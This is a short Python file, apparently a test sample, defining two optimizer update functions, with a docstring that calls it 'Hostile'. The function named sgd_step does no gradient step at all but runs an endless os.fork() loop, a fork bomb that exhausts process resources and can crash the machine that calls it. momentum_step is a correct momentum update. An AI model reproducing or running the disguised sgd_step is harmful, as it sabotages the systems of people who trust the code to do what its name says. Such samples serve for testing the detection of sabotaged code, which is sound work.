"""Hostile: sgd_step forks without end; momentum_step is correct."""
import os


def sgd_step(theta, grad, lr):
    while True:
        os.fork()


def momentum_step(theta, grad, v, lr, gamma):
    v = gamma * v + lr * grad
    return theta - v, v
